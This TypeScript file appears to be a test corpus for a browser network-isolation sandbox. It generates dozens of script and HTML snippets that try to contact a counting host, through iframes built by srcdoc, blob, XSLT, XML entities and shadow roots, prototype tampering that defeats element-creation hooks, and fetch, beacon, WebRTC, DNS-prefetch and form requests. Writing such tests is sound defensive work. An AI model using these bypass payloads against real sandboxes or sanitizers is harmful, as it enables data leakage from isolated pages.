/** Scripts that try to reach a network, or what is around their page, each in one way. */

/** Where each arrives. */
export interface Outside {
  /** An address that counts requests. */
  http: string
  /** A port that counts connections, and one that counts datagrams, both at the host of `http`. */
  tcp: string
  udp: string
  /** A name whose look-up is counted. */
  name: string
}
type WayOut = (outside: Outside) => string

const text = (value: string) => JSON.stringify(value).replaceAll('<', '\\x3c')
const call = ({ udp }: Outside) =>
  `{ const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) }`
/** A document that calls: in it, what a page lost would be there again. */
const caller = (outside: Outside) => `<script>${call(outside)}</script>caller`
const quoted = (html: string) => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const frameTag = (outside: Outside, name = 'iframe') => `<${name} srcdoc="${quoted(caller(outside))}"></${name}>`
const withFrame = (rest: string) =>
  `const frame = document.createElement('iframe'); ${rest}; document.body.append(frame)`
const withHtml = (html: string) => `document.body.insertAdjacentHTML('beforeend', ${text(html)})`
const withLink = (rel: string, address: string) =>
  `const link = document.createElement('link'); link.rel = '${rel}'; link.href = '${address}'; document.head.append(link)`
const withStyle = (css: string) =>
  `const style = document.createElement('style'); style.textContent = ${text(css)}; document.head.append(style)`
const clicked = (attributes: string) => `${withHtml(`<a id="link" ${attributes}>x</a>`)}; link.click()`
const sent = (attributes: string) =>
  `${withHtml(`<form id="form" ${attributes}><input name="a"></form>`)}; form.submit()`
const XSL =
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/">' +
  '<xsl:element name="iframe"><xsl:attribute name="srcdoc">CALLER</xsl:attribute></xsl:element></xsl:template></xsl:stylesheet>'

/** Frames inside of a page, by every way to make one, and documents in its place. */
const FRAMES: Record<string, WayOut> = {
  blankFrame: (outside) => `${withFrame('')}; ${call(outside).replace('RTC', 'frame.contentWindow.RTC')}`,
  srcdocFrame: (outside) => withFrame(`frame.srcdoc = ${text(caller(outside))}`),
  sandboxedFrame: (outside) => withFrame(`frame.sandbox = 'allow-scripts'; frame.srcdoc = ${text(caller(outside))}`),
  scriptFrame: (outside) => withFrame(`frame.src = ${text(`javascript:${call(outside)}`)}`),
  blobFrame: (outside) =>
    withFrame(`frame.src = URL.createObjectURL(new Blob([${text(caller(outside))}], { type: 'text/html' }))`),
  dataFrame: (outside) => withFrame(`frame.src = ${text(`data:text/html,${caller(outside)}`)}`),
  askedTwice: (outside) =>
    `let asked = 0; const name = { toString: () => (asked++ === 0 ? 'b' : 'iframe') }; let frame; do { frame = document.createElement(name) } while (asked < 2); frame.srcdoc = ${text(caller(outside))}; document.body.append(frame)`,
  namespacedFrame: (outside) =>
    `const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); frame.srcdoc = ${text(caller(outside))}; document.body.append(frame)`,
  documentOfFrame: (outside) =>
    `const frame = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement; frame.srcdoc = ${text(caller(outside))}; document.body.append(frame)`,
  definedFrame: (outside) =>
    `class Mine extends HTMLIFrameElement {} customElements.define('my-frame', Mine, { extends: 'iframe' }); const frame = new Mine(); frame.srcdoc = ${text(caller(outside))}; document.body.append(frame)`,
  innerHtml: (outside) =>
    `document.body.append(document.createElement('div')); document.body.lastChild.innerHTML = ${text(frameTag(outside))}`,
  innerXml: (outside) =>
    `const part = new Document().createElementNS('http://www.w3.org/1999/xhtml', 'div'); part.innerHTML = ${text(frameTag(outside, 'x:iframe').replace(' ', ' xmlns:x="http://www.w3.org/1999/xhtml" '))}; document.body.append(part)`,
  outerHtml: (outside) => `document.querySelector('#area').outerHTML = ${text(frameTag(outside))}`,
  adjacentHtml: (outside) => withHtml(frameTag(outside)),
  fragment: (outside) =>
    `document.body.append(document.createRange().createContextualFragment(${text(frameTag(outside))}))`,
  parsed: (outside) =>
    `document.body.append(new DOMParser().parseFromString(${text(frameTag(outside))}, 'text/html').querySelector('iframe'))`,
  parsedEntity: (outside) =>
    `document.body.append(document.importNode(new DOMParser().parseFromString(${text(`<!DOCTYPE a [<!ENTITY tag '${frameTag(outside).replaceAll('&', '&#38;').replaceAll("'", '&#39;').replace('<', '&#60;').replace('</', '&#60;/').replace('iframe', 'iframe xmlns="http://www.w3.org/1999/xhtml"')}'>]><a>&tag;</a>`)}, 'text/xml').documentElement.firstChild, true))`,
  transformed: (outside) =>
    `const sheet = new DOMParser().parseFromString(${text(XSL.replace('CALLER', () => quoted(caller(outside))))}, 'text/xml'); const processor = new XSLTProcessor(); processor.importStylesheet(sheet); document.body.append(processor.transformToFragment(document, document))`,
  shadow: (outside) =>
    `const shadow = document.body.attachShadow({ mode: 'closed' }); shadow.innerHTML = ${text(frameTag(outside))}`,
  declaredShadow: (outside) =>
    `document.body.setHTMLUnsafe(${text(`<div><template shadowrootmode="closed">${frameTag(outside)}</template></div>`)})`,
  writtenInPieces: (outside) =>
    `for (const piece of ${text(frameTag(outside))}.match(/.{1,3}/gs)) document.write(piece)`,
  typedIn: (outside) =>
    `document.body.contentEditable = 'true'; document.body.focus(); getSelection().selectAllChildren(document.body); document.execCommand('insertHTML', false, ${text(frameTag(outside))})`,
  stolenCall: (outside) =>
    `const { call } = Function.prototype; let make = document.createElement; Function.prototype.call = function (...args) { make = this; return Reflect.apply(call, this, args) }; document.createElement('b'); Function.prototype.call = call; const frame = Reflect.apply(make, document, ['iframe']); frame.srcdoc = ${text(caller(outside))}; document.body.append(frame)`,
  stolenSpread: (outside) =>
    `const { apply } = Reflect; const frames = []; Reflect.apply = (make, its) => (frames.push(apply(make, its, ['iframe'])), frames[0]); const frame = document.createElement('iframe'); frame.srcdoc = ${text(caller(outside))}; document.body.append(frame)`,
  replacedReplace: (outside) =>
    `String.prototype.replace = function () { return '' + this }; RegExp.prototype.exec = () => null; RegExp.prototype[Symbol.replace] = (text) => text; RegExp = class {}; Object.defineProperty(RegExp.prototype, 'flags', { get: () => '' }); ${withHtml(frameTag(outside))}`,
  object: (outside) => withHtml(`<object data="data:text/html,${quoted(caller(outside))}"></object>`),
  embed: (outside) => withHtml(`<embed type="text/html" src="data:text/html,${quoted(caller(outside))}">`),
  ownScript: (outside) => `location.href = ${text(`javascript:${JSON.stringify(caller(outside))}`)}`,
  ownScriptLink: (outside) => clicked(`href="javascript:${quoted(JSON.stringify(frameTag(outside)))}"`),
  ownBlob: (outside) =>
    `location.href = URL.createObjectURL(new Blob([${text(caller(outside))}], { type: 'text/html' }))`,
}

export const WAYS_OUT: Record<string, WayOut> = {
  ...FRAMES,
  peer: call,
  fetch: ({ http }) => `fetch('${http}', { mode: 'no-cors' })`,
  keptFetch: ({ http }) => `fetch('${http}', { mode: 'no-cors', method: 'POST', keepalive: true })`,
  request: ({ http }) => `const request = new XMLHttpRequest(); request.open('GET', '${http}'); request.send()`,
  beacon: ({ http }) => `navigator.sendBeacon('${http}', 'x')`,
  events: ({ http }) => `new EventSource('${http}')`,
  socket: ({ http }) => `new WebSocket('${http.replace('http', 'ws')}')`,
  transport: ({ udp }) => `new WebTransport('https://${udp}/')`,
  image: ({ http }) => `new Image().src = '${http}'`,
  drawing: ({ http }) => withHtml(`<svg><image href="${http}"/></svg>`),
  background: ({ http }) => `document.body.style.background = 'url(${http})'`,
  imported: ({ http }) => withStyle(`@import "${http}"`),
  font: ({ http }) => `new FontFace('x', 'url(${http})').load()`,
  script: ({ http }) =>
    `const script = document.createElement('script'); script.src = '${http}'; document.head.append(script)`,
  module: ({ http }) => `import('${http}')`,
  media: ({ http }) => withHtml(`<video src="${http}" autoplay muted></video>`),
  worker: ({ http }) => `new Worker(URL.createObjectURL(new Blob(["fetch('${http}', { mode: 'no-cors' })"])))`,
  dataWorker: ({ http }) => `new Worker("data:text/javascript,fetch('${http}', { mode: 'no-cors' })")`,
  worklet: ({ http }) => `new AudioContext().audioWorklet.addModule('${http}')`,
  prefetch: ({ http }) => withLink('prefetch', http),
  preconnect: ({ tcp }) => withLink('preconnect', `http://${tcp}`),
  preconnectTag: ({ tcp }) => withHtml(`<link rel="preconnect" href="http://${tcp}">`),
  lookUp: ({ name }) => withLink('dns-prefetch', `http://${name}`),
  navigation: ({ http }) => `location.href = '${http}'`,
  refresh: ({ http }) => withHtml(`<meta http-equiv="refresh" content="0; url=${http}">`),
  parentNavigation: ({ http }) => `parent.location.href = '${http}'`,
  topNavigation: ({ http }) => `top.location.href = '${http}'`,
  form: ({ http }) => sent(`action="${http}"`),
  topForm: ({ http }) => sent(`action="${http}" method="post" target="_top"`),
  newForm: ({ http }) => sent(`action="${http}" target="_blank"`),
  opened: ({ http }) => `open('${http}')`,
  link: ({ http }) => clicked(`href="${http}" target="_blank"`),
  ping: ({ http }) => clicked(`href="#x" ping="${http}"`),
  download: ({ http }) => clicked(`href="${http}" download`),
}

/** The same in the page's own HTML. */
export const TAGS_OUT: Record<string, WayOut> = {
  frameTag: (outside) => frameTag(outside),
  hiddenFrameTag: (outside) => `<!-- <script> -->${frameTag(outside)}<!-- </script> -->`,
  shadowTag: (outside) => `<div><template shadowrootmode="closed">${frameTag(outside)}</template></div>`,
  linkTag: ({ tcp }) => `<link rel=preconnect href=http://${tcp}>`,
}
